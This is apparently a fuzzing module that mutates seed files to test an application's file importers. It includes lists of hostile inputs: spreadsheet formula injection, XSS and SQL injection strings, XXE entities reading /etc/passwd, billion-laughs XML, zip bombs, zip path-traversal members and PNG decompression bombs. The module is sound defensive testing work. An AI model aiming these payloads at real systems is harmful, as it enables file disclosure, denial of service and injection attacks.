"""How benchmarks/fuzz_importers.py damages seed files (`Mutator`) and draws a case (`make_case`).

Bit flips, byte changes, truncation, chunk duplication and deletion, splices, zip members mutated
and re-zipped, zip bombs, path-traversal and duplicate members, XML entity bombs, external entities
and deep nesting, formula strings, HTML/script payloads, huge cells, wrong encodings, JSON turned
inside out, and image bombs; each from a fixed seed.
"""

from __future__ import annotations

import base64
import io
import json
import random
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from fuzz_seeds import Workspace, member, zipped

MAX_UPLOAD = 20 * 1024 * 1024  # OPIT_MAX_UPLOAD_MB's default (MiB, as surveys.safe_files)


@dataclass(frozen=True)
class Case:
    index: int
    target: str
    filename: str
    data: bytes
    mutation: str


PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(document.cookie)">',
    "javascript:alert(1)",
    "{{7*7}} ${7*7} %(x)s {0} {name}",
    "'; DROP TABLE responses; --",
    "\u202egnp.exe",
    "\x00\x01\x02\x1b[31m",
    "ЕГН 7501010010, тел. 0888 123 456",
    "NaN",
    "1e309",
    "-0",
    "9" * 400,
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace"),
    "../../../../etc/passwd",
    "\r\n\r\n",
    '"',
    "\t" * 50,
)
XML_ATTACKS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;'
    '&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;'
    '&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;'
    '&e;&e;&e;&e;">]><document>&f;&f;&f;&f;&f;&f;&f;&f;</document>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<document>&x;</document>",
    '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://127.0.0.1:1/evil.dtd"><document/>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]><d/>',
)
ENCODINGS = ("utf-16-le", "utf-16", "utf-32", "cp1251", "latin-1", "koi8-r", "utf-8-sig")


class Mutator:
    """Deterministic mutations of a seed file; each returns (data, name of the mutation)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    # bytes ---------------------------------------------------------------------------------
    def bitflip(self, data: bytes) -> bytes:
        out = bytearray(data or b"\0")
        for _ in range(self.rng.choice((1, 1, 2, 4, 8, 32))):
            i = self.rng.randrange(len(out))
            out[i] ^= 1 << self.rng.randrange(8)
        return bytes(out)

    def set_bytes(self, data: bytes) -> bytes:
        out = bytearray(data or b"\0")
        for _ in range(self.rng.randint(1, 16)):
            out[self.rng.randrange(len(out))] = self.rng.choice((0, 0xFF, 0x7F, 0x80, 0x3C, 0x22))
        return bytes(out)

    def truncate(self, data: bytes) -> bytes:
        return data[: self.rng.choice((0, 1, 2, 4, self.rng.randrange(len(data) + 1)))]

    def duplicate_chunk(self, data: bytes) -> bytes:
        if not data:
            return data * 2
        start = self.rng.randrange(len(data))
        chunk = data[start : start + self.rng.randint(1, 4096)]
        at = self.rng.randrange(len(data) + 1)
        return data[:at] + chunk * self.rng.choice((1, 2, 16, 1000)) + data[at:]

    def delete_chunk(self, data: bytes) -> bytes:
        if not data:
            return data
        start = self.rng.randrange(len(data))
        return data[:start] + data[start + self.rng.randint(1, 2048) :]

    def insert_random(self, data: bytes) -> bytes:
        at = self.rng.randrange(len(data) + 1)
        return data[:at] + self.rng.randbytes(self.rng.choice((1, 8, 256, 65536))) + data[at:]

    def splice(self, data: bytes, other: bytes) -> bytes:
        return (
            data[: self.rng.randrange(len(data) + 1)] + other[self.rng.randrange(len(other) + 1) :]
        )

    def byte_mutation(self, data: bytes) -> tuple[bytes, str]:
        name = self.rng.choice(
            ("bitflip", "set_bytes", "truncate", "duplicate_chunk", "delete_chunk", "insert_random")
        )
        return getattr(self, name)(data), name

    # text ----------------------------------------------------------------------------------
    def payload(self, text: str) -> tuple[str, str]:
        kind = self.rng.choice(("payload", "payload", "huge_cell", "long_line", "many_lines"))
        at = self.rng.randrange(len(text) + 1)
        if kind == "payload":
            insert = self.rng.choice(PAYLOADS)
        elif kind == "huge_cell":
            insert = "Ж" * self.rng.choice((70_000, 1_000_000, 3_000_000))
        elif kind == "long_line":
            insert = ("дълъг ред " * 20_000).strip()
        else:
            insert = "\n".join(self.rng.choice(PAYLOADS) for _ in range(20_000))
        return text[:at] + insert + text[at:], kind

    def csv_structure(self, text: str) -> tuple[str, str]:
        lines = text.splitlines() or [""]
        kind = self.rng.choice(("columns", "quotes", "delimiter", "rows", "ragged"))
        if kind == "columns":
            lines[0] = lines[0] + ",".join(f"col{i}" for i in range(self.rng.choice((300, 20_000))))
        elif kind == "quotes":
            i = self.rng.randrange(len(lines))
            lines[i] = '"' + lines[i] + '\n"",,"'
        elif kind == "delimiter":
            swap = self.rng.choice((";", "\t", "|", "\x00", "\u00a0"))
            lines = [line.replace(",", swap) for line in lines]
        elif kind == "rows":
            times = min(self.rng.choice((50, 3000)), 1 + MAX_UPLOAD // (len(text) + 1))
            lines += lines[1:] * times
        else:
            lines = [line + ",x" * self.rng.randrange(5) for line in lines]
        return "\n".join(lines), f"csv_{kind}"

    def json_structure(self, text: str) -> tuple[str, str]:
        try:
            doc = json.loads(text)
        except (ValueError, RecursionError):
            return text, "json_unparsed"
        kind = self.rng.choice(("replace", "replace", "delete", "grow", "deep", "numbers"))
        if kind == "deep":
            depth = self.rng.choice((500, 5000, 200_000))
            return "[" * depth + "1" + "]" * depth, "json_deep"
        nodes: list[tuple[object, object]] = []
        todo = [doc]
        while todo and len(nodes) < 100_000:
            node = todo.pop()
            if not isinstance(node, dict | list):
                continue
            for key in list(node) if isinstance(node, dict) else range(len(node)):
                nodes.append((node, key))
                todo.append(node[key])
        if not nodes:
            return json.dumps(self.rng.choice(([], {}, None, "x"))), "json_replace"
        parent, key = self.rng.choice(nodes)
        if kind == "delete":
            del parent[key]
        elif kind == "grow":
            parent[key] = [parent[key]] * self.rng.choice((2, 1000, 50_000))
        elif kind == "numbers":
            parent[key] = self.rng.choice((10**400, -1, 0, 2**63, 1.5, float("nan"), float("inf")))
        else:
            parent[key] = self.rng.choice(
                (
                    None,
                    True,
                    0,
                    -7,
                    "",
                    "x" * 100_000,
                    [],
                    {},
                    {"a": [1, {}]},
                    ["x"] * 10,
                    *PAYLOADS,
                )
            )
        return json.dumps(doc, ensure_ascii=self.rng.random() < 0.3), f"json_{kind}"

    def xml_attack(self, text: str) -> tuple[str, str]:
        kind = self.rng.choice(("entities", "deep", "huge_attribute", "prepend_doctype", "cdata"))
        if kind == "entities":
            return self.rng.choice(XML_ATTACKS), "xml_entities"
        if kind == "prepend_doctype":
            doctype = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            body = text.split("?>", 1)[-1]
            return '<?xml version="1.0"?>' + doctype + body.replace("<", "&x;<", 1), "xml_xxe"
        at = text.find(">", text.find("<", text.find("?>") + 2)) + 1
        if kind == "deep":
            depth = self.rng.choice((1000, 100_000))
            insert = "<a>" * depth + "</a>" * depth
        elif kind == "huge_attribute":
            insert = f'<a b="{"x" * 5_000_000}"/>'
        else:
            insert = "<![CDATA[" + self.rng.choice(PAYLOADS) + "]]>]]>"
        return text[:at] + insert + text[at:], f"xml_{kind}"

    def text_mutation(self, data: bytes, filename: str) -> tuple[bytes, str]:
        """A mutation that knows the text format, re-encoded (sometimes in a wrong encoding)."""
        text = (
            data.decode("utf-8", "replace")
            if not filename.endswith(".srt")
            else data.decode("cp1251", "replace")
        )
        suffix = Path(filename).suffix.lower()
        choices = ["payload", "encoding"]
        if suffix in (".csv",):
            choices += ["csv", "csv"]
        if suffix in (".json",):
            choices += ["json", "json", "json"]
        if suffix in (".lss", ".lsr", ".qdc", ".xml") or text.lstrip().startswith("<?xml"):
            choices += ["xml", "xml"]
        kind = self.rng.choice(choices)
        if kind == "encoding":
            encoding = self.rng.choice(ENCODINGS)
            if self.rng.random() < 0.3:  # half in one encoding, half in another
                half = len(text) // 2
                return text[:half].encode("utf-8") + text[half:].encode(
                    encoding, "replace"
                ), f"encoding_mixed_{encoding}"
            return text.encode(encoding, "replace"), f"encoding_{encoding}"
        if kind == "csv":
            text, name = self.csv_structure(text)
        elif kind == "json":
            text, name = self.json_structure(text)
        elif kind == "xml":
            text, name = self.xml_attack(text)
        else:
            text, name = self.payload(text)
        return text.encode("utf-8", "surrogatepass"), name

    # zip -----------------------------------------------------------------------------------
    def zip_mutation(self, data: bytes, filename: str) -> tuple[bytes, str]:
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                infos = archive.infolist()
                if sum(i.file_size for i in infos) > 50_000_000 or len(infos) > 5000:
                    return self.byte_mutation(data)
                members = {i.filename: archive.read(i) for i in infos}
        except Exception:  # a zip broken by an earlier mutation: mutate its bytes
            return self.byte_mutation(data)
        kind = self.rng.choice(
            ("member", "member", "member", "member", "bomb", "traversal", "many", "duplicate",
             "encrypted_flag", "lie_size", "stored", "drop")
        )  # fmt: skip
        names = list(members)
        if kind == "member" and names:
            name = self.rng.choice(names)
            content = members[name]
            is_text = name.endswith((".xml", ".json", ".jsonl", ".lss", ".lsr", ".rels", ".txt"))
            if is_text and self.rng.random() < 0.7:
                members[name], how = self.text_mutation(content, name)
            else:
                members[name], how = self.byte_mutation(content)
            return zipped(members), f"zip_member_{how}"
        if kind == "bomb":
            name = self.rng.choice(names) if names else "x.xml"
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
                for other, content in members.items():
                    if other != name:
                        archive.writestr(member(other), content)
                with archive.open(member(name), "w", force_zip64=True) as handle:
                    block = b"\0" * (1024 * 1024)
                    for _ in range(self.rng.choice((30, 120))):
                        handle.write(block)
            return buffer.getvalue(), "zip_bomb"
        if kind == "traversal":
            members["../../../../tmp/opit-fuzz-evil.txt"] = b"evil"
            members["/abs/evil.xml"] = b"<x/>"
            return zipped(members), "zip_traversal"
        if kind == "many":
            for i in range(self.rng.choice((2000, 20_000))):
                members[f"junk/{i}.xml"] = b"<x/>"
            return zipped(members, zipfile.ZIP_STORED), "zip_many_members"
        if kind == "duplicate" and names:
            warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
            buffer = io.BytesIO()
            with zipfile.ZipFile(buffer, "w") as archive:
                for name, content in members.items():
                    archive.writestr(member(name), content)
                archive.writestr(member(self.rng.choice(names)), b"<duplicate/>")
            return buffer.getvalue(), "zip_duplicate_member"
        if kind == "encrypted_flag":
            out = bytearray(data)
            for marker in (b"PK\x03\x04", b"PK\x01\x02"):
                at = out.find(marker)
                while at != -1:
                    flag_at = at + (6 if marker == b"PK\x03\x04" else 8)
                    out[flag_at] |= 1
                    at = out.find(marker, at + 4)
            return bytes(out), "zip_encrypted_flag"
        if kind == "lie_size":
            out = bytearray(data)
            at = out.find(b"PK\x01\x02")
            if at != -1:
                out[at + 24 : at + 28] = (0xFFFFFFF0).to_bytes(4, "little")
            return bytes(out), "zip_lying_size"
        if kind == "stored":
            return zipped(members, zipfile.ZIP_STORED), "zip_stored"
        if names:
            del members[self.rng.choice(names)]
        return zipped(members), "zip_drop_member"

    def image_bomb(self, data: bytes) -> tuple[bytes, str]:
        """A journey whose screenshot is a tiny PNG declaring a huge image."""
        try:
            doc = json.loads(data)
            shot = doc["prototypes"][0]["screenshots"][0]
        except (ValueError, KeyError, IndexError, TypeError, RecursionError):
            return data, "image_bomb_skipped"
        width, height = self.rng.choice(((30_000, 30_000), (100_000, 1), (65_535, 65_535)))
        raw = zlib.compress(b"\0" * 1024)
        head = b"\x89PNG\r\n\x1a\n"
        ihdr = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes((8, 2, 0, 0, 0))

        def chunk(kind: bytes, body: bytes) -> bytes:
            crc = zlib.crc32(kind + body).to_bytes(4, "big")
            return len(body).to_bytes(4, "big") + kind + body + crc

        png = head + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
        shot["data"] = base64.b64encode(png).decode("ascii")
        return json.dumps(doc).encode(), "image_bomb"

    # one case ------------------------------------------------------------------------------
    def mutate(self, target: str, filename: str, data: bytes, other: bytes) -> tuple[bytes, str]:
        is_zip = data[:2] == b"PK"
        steps = []
        for _ in range(self.rng.choice((1, 1, 1, 2, 3))):
            roll = self.rng.random()
            if target == "journey" and roll < 0.05:
                data, name = self.image_bomb(data)
            elif is_zip and roll < 0.6:
                data, name = self.zip_mutation(data, filename)
            elif not is_zip and data[:6] != b"SQLite" and roll < 0.6:
                data, name = self.text_mutation(data, filename)
            elif roll < 0.95:
                data, name = self.byte_mutation(data)
            else:
                data, name = self.splice(data, other), "splice"
            steps.append(name)
            if len(data) > 2 * MAX_UPLOAD:  # keep stacked mutations within reach of the limit
                data = data[: 2 * MAX_UPLOAD]
        return data, "+".join(steps)


def make_case(work: Workspace, index: int, seed: int, targets: tuple[str, ...]) -> Case:
    rng = random.Random(f"{seed}:{index}")
    cycle = list(targets)
    if "backup" in targets and len(targets) > 1:  # a restore costs ~1 s: half as many of them
        cycle += [t for t in targets if t != "backup"]
    target = cycle[index % len(cycle)]
    seeds = work.seeds[target]
    filename, data = rng.choice(seeds)
    other = rng.choice([d for seeds_ in work.seeds.values() for _, d in seeds_])
    if rng.random() < 0.03:  # the seed as it is: must import
        return Case(index, target, filename, data, "none")
    data, mutation = Mutator(rng).mutate(target, filename, data, other)
    if len(data) > MAX_UPLOAD:  # the app refuses a larger upload before any importer sees it
        data, mutation = data[:MAX_UPLOAD], mutation + "+cut_to_upload_limit"
    if rng.random() < 0.03:  # a file under another kind's name
        filename = rng.choice(["x.xlsx", "x.xls", "x.lss", "x.lsa", "x.csv", "x.docx", "x.vtt"])
        mutation += "+renamed"
    return Case(index, target, filename, data, mutation)
